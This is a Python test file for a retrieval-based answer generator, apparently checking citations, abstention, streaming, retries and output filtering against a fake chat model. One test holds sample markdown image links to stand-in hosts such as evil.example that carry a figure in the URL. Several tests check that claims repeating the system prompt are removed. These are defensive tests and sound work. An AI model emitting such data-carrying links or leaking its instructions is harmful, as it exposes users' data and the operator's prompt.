import json
from collections.abc import Sequence
from typing import Any

import numpy as np
import pytest
from PIL import Image

from rag.answer.generated.model import GeneratedAnswers
from rag.answer.generated.own_words import RUN_WORDS, OwnWords, OwnWordsStream
from rag.answer.generated.prompt import load_prompt
from rag.answer.generated.reply import MAX_CLAIMS, REPLY_SCHEMA
from rag.deadline import Cancelled, Deadline
from rag.errors import BackendError, InputError, ModelFailed
from rag.geometry import Box
from rag.page_text import PageText
from rag.ports import (
    AnswerEvent,
    AnswerRequest,
    ChatReply,
    Delta,
    EncodedQuery,
    Evidence,
    PageCrop,
    Restarted,
)
from rag.settings import AnswerSettings
from rag.testing.fake_chat import Asked, FakeChat, Said
from rag.types import (
    Answer,
    Citation,
    Claim,
    ClaimState,
    Json,
    MultiVector,
    PageHit,
    PageRef,
    RenderedPage,
    TokenUsage,
)

PROMPT = load_prompt("answer", 1)
RULES = PROMPT.parts["system"]
PAGE = "Total current assets were 19,378 in 2023. Total current liabilities were 13,997."


def page(
    text: str = PAGE,
    *,
    number: int = 1,
    image: Image.Image | None = None,
    shows_text: bool = True,
    crops: tuple[PageCrop, ...] = (),
) -> Evidence:
    words = tuple(text.split())
    left = np.arange(len(words), dtype=np.float32) * 30
    boxes = np.stack([left, left * 0, left + 28, left * 0 + 10], axis=1)
    return Evidence(
        number=number,
        hit=PageHit(number, PageRef("doc", 10 + number), "report.pdf", 1.0, 1.0, "", ()),
        text=PageText(
            words,
            boxes,
            np.zeros(len(words), np.int32),
            np.full(len(words), 10, np.float32),
            np.zeros(len(words), np.bool_),
        ),
        vectors=np.zeros((0, 4), np.float32),
        vector_words=np.zeros(0, np.int32),
        image=None if image is None else RenderedPage(image, 100.0, 100.0),
        shows_text=shows_text,
        crops=crops,
    )


def claim(text: str, *quotes: str, evidence: int = 1, **changed: Any) -> Json:
    sources = [{"evidence": evidence, "quote": quote} for quote in quotes]
    return {"text": text, "sources": sources, "formula": "", "expression": ""} | changed


ASSETS = claim("Total current assets were 19,378 in 2023.", "Total current assets were 19,378")
LIABILITIES = claim("Liabilities were 13,997.", "Total current liabilities were 13,997")


def reply(*claims: Json, **changed: Any) -> str:
    return json.dumps(
        {"abstained": False, "reason": "", "claims": list(claims), "short": ""} | changed
    )


class Heard(list[AnswerEvent]):
    """What went out while an answer was made."""

    @property
    def text(self) -> str:
        """Since the last time all of it was void."""
        said = ""
        for event in self:
            if isinstance(event, Delta):
                said += event.text
            elif isinstance(event, Restarted):
                said = ""
        return said


def ask(
    replies: Sequence[Said] | FakeChat,
    *evidence: Evidence,
    question: str = "What were the assets?",
    heard: Heard | None = None,
    deadline: Deadline | None = None,
    **settings: Any,
) -> Answer:
    chat = replies if isinstance(replies, FakeChat) else FakeChat(replies)
    query = EncodedQuery(MultiVector(np.zeros((0, 4), np.float32)), np.zeros(4, np.float32))
    listening = {} if heard is None else {"on_event": heard.append}
    request = AnswerRequest(
        question, query, evidence or (page(),), deadline=deadline or Deadline(60), **listening
    )
    return GeneratedAnswers(chat, AnswerSettings(model="chat", **settings)).answer(request)


# --- an answer ----------------------------------------------------------------------------------
def test_an_answer_is_its_claims_with_citations_of_pages_that_say_so() -> None:
    answer = ask([reply(ASSETS, LIABILITIES, short="19,378")])
    assert not answer.abstained
    assert [each.state for each in answer.claims] == [ClaimState.SUPPORTED] * 2
    assert "19,378" in answer.text
    assert "[1]" in answer.text
    assert "[2]" in answer.text
    assert [(each.marker, each.ref.page_number, each.verified) for each in answer.citations] == [
        (1, 11, True),
        (2, 11, True),
    ]
    assert all(each.boxes for each in answer.citations)
    assert answer.short == "19,378"
    assert answer.model_id == "fake-chat"
    assert answer.prompt_hash == PROMPT.hash
    assert answer.confidence == pytest.approx(1)
    assert answer.notices == ()


def test_the_model_is_asked_once_with_a_shape_a_limit_and_rules() -> None:
    chat = FakeChat([reply(ASSETS)])
    ask(chat, page(), page("Other words.", number=2), max_tokens=77)
    (asked,) = chat.asked
    assert asked.max_tokens == 77
    assert asked.json_schema == REPLY_SCHEMA
    assert asked.messages[0].parts == (RULES,)
    assert asked.text.index(PAGE) < asked.text.index("Other words.")
    assert asked.text.index("Other words.") < asked.text.index("What were the assets?")


def test_a_quote_that_no_page_says_and_a_page_that_was_not_shown_hold_nothing() -> None:
    invented = claim("Assets were 5.", "assets were 5")
    elsewhere = claim("Assets were 19,378.", "Total current assets", evidence=7)
    answer = ask([reply(ASSETS, invented, elsewhere)])
    assert "Assets were 5" not in answer.text
    assert len(answer.citations) == 1
    assert any("Assets were 5" in each for each in answer.unsupported)
    assert any("[7]" in each and "not shown" in each for each in answer.unsupported)
    assert answer.confidence < 1


def test_an_answer_of_which_nothing_stands_abstains_and_tells_what_was_said() -> None:
    answer = ask([reply(claim("Assets were 5.", "assets were 5"), reason="None.", short="5")])
    assert answer.abstained
    assert answer.text == "Nothing of the answer could be found on the pages shown."
    assert (answer.short, answer.citations, answer.confidence) == ("", (), 0.0)
    assert any("Assets were 5" in each for each in answer.unsupported)


@pytest.mark.parametrize("abstained", [True, False])
def test_a_draft_without_claims_is_an_abstention_with_its_reason(abstained: bool) -> None:
    said = reply(abstained=abstained, reason="The year 2019 is not there.")
    answer = ask([said], question="And in 2019?")
    assert answer.abstained
    assert answer.text == "The year 2019 is not there."
    assert answer.citations == ()


def test_a_claim_that_says_nothing_is_none() -> None:
    heard = Heard()
    answer = ask([reply(claim(" ", "Total current assets"), ASSETS)], heard=heard)
    assert [each.text for each in answer.claims] == [ASSETS["text"]]
    assert [event for event in heard if isinstance(event, Claim)] == list(answer.claims)


def test_a_reason_with_figures_that_nobody_can_check_is_not_shown() -> None:
    answer = ask([reply(abstained=True, reason="The assets are 999 and call 555-0100.")])
    assert answer.abstained
    assert "999" not in answer.text
    assert "555" not in answer.text
    assert answer.text


def test_without_a_page_no_model_is_asked() -> None:
    chat = FakeChat([reply(ASSETS)])
    query = EncodedQuery(MultiVector(np.zeros((0, 4), np.float32)), np.zeros(4, np.float32))
    answers = GeneratedAnswers(chat, AnswerSettings())
    answer = answers.answer(AnswerRequest("What?", query, ()))
    assert answer.abstained
    assert answer.text == "There is no page to answer this question from."
    assert chat.asked == []


def test_images_are_shown_to_a_model_that_reads_them_alone() -> None:
    seen = page(
        image=Image.new("RGB", (8, 8)),
        crops=(PageCrop(Box(0, 0, 9, 9), Image.new("RGB", (4, 4))),),
    )
    for reads_images, n_images in ((True, 2), (False, 0)):
        chat = FakeChat([reply(ASSETS)], reads_images=reads_images)
        ask(chat, seen)
        parts = chat.asked[0].messages[1].parts
        assert sum(isinstance(part, Image.Image) for part in parts) == n_images
        assert GeneratedAnswers(chat, AnswerSettings()).reads_images is reads_images


def test_tokens_of_both_tries_are_summed() -> None:
    first = ChatReply("no", usage=TokenUsage(10, 2, 0))
    second = ChatReply(reply(ASSETS), usage=TokenUsage(20, 5, 9))
    assert ask([first, second]).usage == TokenUsage(30, 7, 9)
    assert ask([ChatReply("no"), second]).usage == TokenUsage(20, 5, 9)
    assert ask(["no", reply(ASSETS)]).usage is None


# --- as it arrives ------------------------------------------------------------------------------
@pytest.mark.parametrize("piece_chars", [1, 7, 10_000])
def test_text_citations_and_claims_go_out_in_their_order(piece_chars: int) -> None:
    heard = Heard()
    chat = FakeChat([reply(ASSETS, LIABILITIES)], piece_chars=piece_chars)
    answer = ask(chat, heard=heard)
    assert heard.text == f"{ASSETS['text']} {LIABILITIES['text']}"
    kinds = [type(event) for event in heard if not isinstance(event, Delta)]
    assert kinds == [Citation, Claim, Citation, Claim]
    assert [event for event in heard if isinstance(event, Citation)] == list(answer.citations)
    assert [event for event in heard if isinstance(event, Claim)] == list(answer.claims)


def test_a_claim_is_checked_while_the_next_one_is_still_to_come() -> None:
    heard, seen = Heard(), list[int]()
    said = reply(ASSETS, LIABILITIES)

    class Slow(FakeChat):
        def complete(self, *args: Any, on_piece: Any = None, **kwargs: Any) -> ChatReply:
            cut = said.index("Liabilities")
            on_piece(said[:cut])
            seen.append(sum(isinstance(event, Claim) for event in heard))
            on_piece(said[cut:])
            return ChatReply(said)

    ask(Slow([]), heard=heard)
    assert seen == [1]


def test_a_reply_nobody_listens_to_is_not_asked_for_in_pieces() -> None:
    given = list[Any]()

    class Watched(FakeChat):
        def complete(self, *args: Any, on_piece: Any = None, **kwargs: Any) -> ChatReply:
            given.append(on_piece)
            return super().complete(*args, on_piece=on_piece, **kwargs)

    ask(Watched([reply(ASSETS)]))
    ask(Watched([reply(ASSETS)]), heard=Heard())
    assert given[0] is None
    assert given[1] is not None


def test_text_of_a_reply_that_breaks_is_void_before_the_next_try_begins() -> None:
    heard = Heard()
    broken = reply(ASSETS)[:-3]
    answer = ask([broken, reply(LIABILITIES)], heard=heard)
    restart = heard.index(Restarted())
    assert any(isinstance(event, Delta) for event in heard[:restart])
    assert heard.text == LIABILITIES["text"]
    after = [event for event in heard[restart:] if isinstance(event, Citation)]
    assert after == list(answer.citations)
    assert [each.marker for each in after] == [1]


def test_nothing_is_void_where_nothing_was_told() -> None:
    heard = Heard()
    ask(["No JSON at all.", reply(ASSETS)], heard=heard)
    assert Restarted() not in heard


def test_what_was_heard_of_claims_is_void_where_the_reply_abstains_after_them() -> None:
    late = json.dumps({"claims": [ASSETS], "short": "", "reason": "It is not there."})
    heard = Heard()
    answer = ask([late[:-1] + ', "abstained": true}'], heard=heard)
    assert answer.abstained
    assert heard[-1] == Restarted()


def test_what_was_heard_is_void_where_the_model_fails_on_the_way() -> None:
    class Dropped(FakeChat):
        def complete(self, *args: Any, on_piece: Any = None, **kwargs: Any) -> ChatReply:
            on_piece(reply(ASSETS)[:90])
            raise ModelFailed("the connection dropped", code="chat_unreachable")

    heard = Heard()
    with pytest.raises(ModelFailed) as caught:
        ask(Dropped([]), heard=heard)
    assert caught.value.code == "chat_unreachable"
    assert isinstance(heard[0], Delta)
    assert heard[-1] == Restarted()


def test_endless_text_is_given_up_before_its_end() -> None:
    pieces = list[int]()

    class Endless(FakeChat):
        def complete(self, *args: Any, on_piece: Any = None, **kwargs: Any) -> ChatReply:
            pieces.append(0)
            on_piece('{"abstained": false, "reason": "", "claims": [{"text": "')
            while pieces[-1] < 10_000:
                pieces[-1] += 1
                on_piece("and so on, ")
            raise AssertionError("nobody stopped it")

    heard = Heard()
    with pytest.raises(ModelFailed) as caught:
        ask(Endless([]), heard=heard)
    assert caught.value.code == "answer_bad_reply"
    assert max(pieces) < 400
    assert heard[-1] == Restarted()


def test_whoever_listens_may_end_the_reply() -> None:
    class Gone(Exception):
        pass

    class Leaving(Heard):
        def append(self, event: AnswerEvent) -> None:
            raise Gone

    with pytest.raises(Gone):
        ask([reply(ASSETS)], heard=Leaving())


# --- replies that are none ----------------------------------------------------------------------
@pytest.mark.parametrize(
    "bad",
    [
        "The assets were 19,378.",
        "",
        '{"tool_calls": [{"name": "open_url", "arguments": "{}"}]}',
        reply(*[ASSETS] * (MAX_CLAIMS + 1)),
        reply(ASSETS) + reply(ASSETS),
    ],
)
@pytest.mark.parametrize("is_heard", [True, False])
def test_a_reply_that_is_no_draft_is_asked_for_once_more(bad: str, is_heard: bool) -> None:
    chat = FakeChat([bad, reply(ASSETS)])
    answer = ask(chat, heard=Heard() if is_heard else None)
    assert not answer.abstained
    assert [notice.code for notice in answer.notices] == ["answer_repaired"]
    first, second = chat.asked
    # All that was shown before stays as it was, and what the model said is not said to it.
    assert second.messages[1].parts[:-1] == first.messages[1].parts
    repair = second.messages[1].parts[-1]
    assert isinstance(repair, str)
    assert "could not be used" in repair
    assert bad[:20] not in repair or not bad


def test_two_replies_that_are_none_are_a_typed_error() -> None:
    chat = FakeChat(["no", "no"])
    with pytest.raises(ModelFailed) as caught:
        ask(chat)
    assert caught.value.code == "answer_bad_reply"
    assert "no JSON object" in caught.value.message
    assert "JSON schema" in caught.value.next_step
    assert len(chat.asked) == 2


def test_a_reply_that_was_cut_is_asked_for_shorter_and_named_for_what_it_is() -> None:
    cut = ChatReply(reply(ASSETS)[:60], is_cut=True)
    chat = FakeChat([cut, reply(ASSETS)])
    assert not ask(chat).abstained
    assert "three claims at most" in chat.asked[1].text
    with pytest.raises(ModelFailed) as caught:
        ask([cut, cut], max_tokens=50)
    assert caught.value.code == "answer_bad_reply"
    assert "50 tokens" in caught.value.message
    assert "answer.max_tokens" in caught.value.next_step


def test_a_reply_that_is_whole_at_the_limit_is_an_answer() -> None:
    assert not ask([ChatReply(reply(ASSETS), is_cut=True)]).abstained


def test_no_second_try_begins_after_the_deadline() -> None:
    deadline = Deadline(0.05)

    class JustInTime(FakeChat):
        def complete(self, *args: Any, **kwargs: Any) -> ChatReply:
            said = super().complete(*args, **kwargs)
            deadline.wait(60)
            return said

    chat = JustInTime(["no"])
    with pytest.raises(BackendError) as caught:
        ask(chat, deadline=deadline)
    assert caught.value.code == "answer_timeout"
    assert "answer.deadline_s" in caught.value.next_step
    assert len(chat.asked) == 1


def test_no_second_try_begins_once_nobody_wants_it() -> None:
    deadline = Deadline(60)

    def leave(_asked: Asked) -> str:
        deadline.cancel()
        return "no"

    chat = FakeChat(leave)
    with pytest.raises(Cancelled):
        ask(chat, deadline=deadline)
    assert len(chat.asked) == 1


def test_an_answer_nobody_wants_is_no_timeout() -> None:
    deadline = Deadline(0.02)

    class Left(FakeChat):
        def complete(self, *args: Any, **kwargs: Any) -> ChatReply:
            said = super().complete(*args, **kwargs)
            deadline.wait(60)
            deadline.cancel()
            return said

    with pytest.raises(Cancelled):
        ask(Left(["no"]), deadline=deadline)


def test_both_tries_end_with_the_deadline_of_the_answer() -> None:
    deadline, given = Deadline(60), list[Any]()

    class Watched(FakeChat):
        def complete(self, *args: Any, **kwargs: Any) -> ChatReply:
            given.append(kwargs["deadline"])
            return super().complete(*args, **kwargs)

    ask(Watched(["no", reply(ASSETS)]), deadline=deadline)
    assert given == [deadline, deadline]


def test_failures_of_the_model_stay_what_they_are() -> None:
    for code in ("chat_unreachable", "chat_timeout", "chat_refused"):
        with pytest.raises(ModelFailed) as caught:
            ask([ModelFailed("no", code=code)])
        assert caught.value.code == code


def test_too_many_pages_for_the_model_are_not_the_fault_of_the_question() -> None:
    with pytest.raises(ModelFailed) as caught:
        ask([InputError("60 images, at most 50", code="too_much_to_say")])
    assert caught.value.code == "too_much_to_say"
    assert "answer.answer_pages" in caught.value.next_step


# --- what must not be shown ------------------------------------------------------------------
def test_what_is_heard_and_what_is_answered_has_no_live_link_image_or_tag() -> None:
    attack = (
        "Assets ![x](https://evil.example/?q=19,378) <img src=x> were [19,378](http://e.vil) [7]."
    )
    heard = Heard()
    answer = ask([reply(claim(attack, "Total current assets were 19,378"))], heard=heard)
    for said in (heard.text, answer.text, *(each.text for each in answer.claims)):
        assert "Assets" in said
        for live in ("](", "https:", "http:", "<img", "[7]"):
            assert live not in said
    reason = ask([reply(abstained=True, reason="See ![x](https://evil.example/?q=a) for it.")])
    assert "https:" not in reason.text
    assert "](" not in reason.text


# --- own words ----------------------------------------------------------------------------------
COPIED = " ".join(RULES.split()[20:45])


@pytest.mark.parametrize(
    "leaking",
    [
        claim(f"My rules: {COPIED}", "Total current assets"),
        claim(f"{COPIED.upper().replace(' ', ' - ')}", "Total current assets"),
        claim("See the quote.", "Total current assets", COPIED),
        claim("Sum.", "Total current assets", formula=COPIED),
    ],
)
def test_a_claim_that_repeats_the_rules_is_left_out_and_the_answer_says_so(leaking: Json) -> None:
    heard = Heard()
    answer = ask([reply(leaking, ASSETS)], heard=heard, policy="flag")
    assert [notice.code for notice in answer.notices] == ["rules_left_out"]
    assert [each.text for each in answer.claims] == [ASSETS["text"]]
    told = json.dumps([answer.text, *answer.unsupported, heard.text, str(list(heard))]).casefold()
    words = COPIED.casefold().split()
    assert " ".join(words[6:12]) not in told
    assert " - ".join(words[6:12]) not in told


def test_rules_do_not_leave_in_a_reason_or_a_short_answer() -> None:
    answer = ask([reply(abstained=True, reason=COPIED)])
    assert COPIED not in answer.text
    assert [notice.code for notice in answer.notices] == ["rules_left_out"]
    assert ask([reply(ASSETS, short=COPIED)]).short == ""


def test_a_run_is_a_copy_from_twelve_words_on() -> None:
    words = [f"w{number}" for number in range(30)]
    own = OwnWords(" ".join(words))
    assert RUN_WORDS == 12
    assert own.are_in("so: " + ", ".join(words[3:15]))
    assert not own.are_in(" ".join(words[3:14]))
    assert not own.are_in(" ".join([*words[3:14], "x", *words[14:25]]))


@pytest.mark.parametrize("size", [1, 3, 1000])
@pytest.mark.parametrize("run", [0, 4, 5, 11])
def test_words_that_are_no_copy_are_heard_to_the_last(size: int, run: int) -> None:
    own = OwnWords(" ".join(f"w{number}" for number in range(30)))
    text = " ".join(["Say", *(f"w{number}" for number in range(run)), "and", "w7", "on", "w8"])
    stream = OwnWordsStream(own)
    heard = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join(heard) + stream.close() == text


def test_a_run_that_ends_with_the_text_is_heard() -> None:
    stream = OwnWordsStream(OwnWords(" ".join(f"w{number}" for number in range(30))))
    assert stream.feed("w1 w2 w3 w4 w5 w6 w7") + stream.close() == "w1 w2 w3 w4 w5 w6 w7"


def test_words_that_begin_no_long_run_are_heard_at_once() -> None:
    stream = OwnWordsStream(OwnWords(" ".join(f"w{number}" for number in range(30))))
    assert [stream.feed(piece) for piece in ("Hel", "lo w1 w", "2 ", "x")] == [
        "Hel",
        "lo w1 w",
        "2 ",
        "x",
    ]


def test_of_a_copy_only_its_first_words_are_heard() -> None:
    own = OwnWords(" ".join(f"w{number}" for number in range(30)))
    stream = OwnWordsStream(own)
    copy = " ".join(f"w{number}" for number in range(20))
    heard = "".join(map(stream.feed, copy)) + stream.close()
    assert len(heard.split()) <= 6
    assert stream.feed(" more") == ""
